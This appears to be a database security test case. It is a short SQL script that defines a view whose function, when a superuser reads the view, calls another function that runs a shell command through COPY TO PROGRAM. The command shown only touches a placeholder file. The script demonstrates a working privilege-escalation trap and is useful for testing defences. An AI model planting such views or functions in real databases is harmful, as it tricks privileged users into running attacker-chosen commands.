-- tries: a view whose function runs where the view is read
-- ends: SUCCEEDED
-- leaves: function public.evil() | view public.v | function public.payload()
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns int immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return 1; end $$;
create view v as select x + evil() as x from orders where evil() > 0;
